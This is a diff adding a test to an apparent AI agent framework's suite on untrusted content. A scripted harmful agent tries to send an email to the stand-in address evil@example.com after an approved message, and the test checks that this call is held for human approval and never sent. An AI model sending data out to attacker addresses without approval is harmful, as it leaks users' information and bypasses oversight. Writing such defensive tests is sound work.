@@ -127,6 +127,28 @@ describe("what is not trusted, shown", () => {
     });
     expect(sent).toEqual([]);
   });
+
+  it.each([10, 130_000])(
+    "counts behind a call that a person has allowed, also in a long answer: %i characters",
+    async (chars) => {
+      const { agent, sent } = harmful();
+      const chat = new Conversation({ agent });
+      await chat.say({
+        steps: [
+          [toolCall("fail_page", {}), asked],
+          [text("x".repeat(chars)), mail("ada@example.com", "Hello."), asked],
+        ],
+      });
+      const more = { to: "evil@example.com", text: "Words of the model." };
+      const turn = await chat.approve({
+        steps: [[toolCall("send_email", more, { id: "more" }), asked]],
+      });
+      expect(sent).toEqual([{ to: "ada@example.com", text: "Hello." }]);
+      expect(chunksOf(turn.chunks, "tool-approval-request")).toMatchObject([
+        { toolCallId: "more" },
+      ]);
+    },
+  );
 });
 
 describe("what is not trusted, hidden", () => {
